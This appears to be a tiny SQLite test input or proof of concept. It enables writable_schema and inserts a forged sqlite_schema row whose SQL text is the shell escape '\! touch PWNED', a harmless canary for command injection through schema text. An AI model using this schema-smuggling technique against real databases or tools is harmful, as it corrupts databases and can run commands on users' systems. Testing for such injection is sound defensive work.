PRAGMA foreign_keys=OFF;
BEGIN TRANSACTION;
CREATE TABLE t(id INTEGER PRIMARY KEY, v TEXT);
INSERT INTO t VALUES(1,'a');
PRAGMA writable_schema=ON;
INSERT INTO sqlite_schema VALUES('table','x','x',0,'\! touch PWNED');
PRAGMA writable_schema=OFF;
COMMIT;
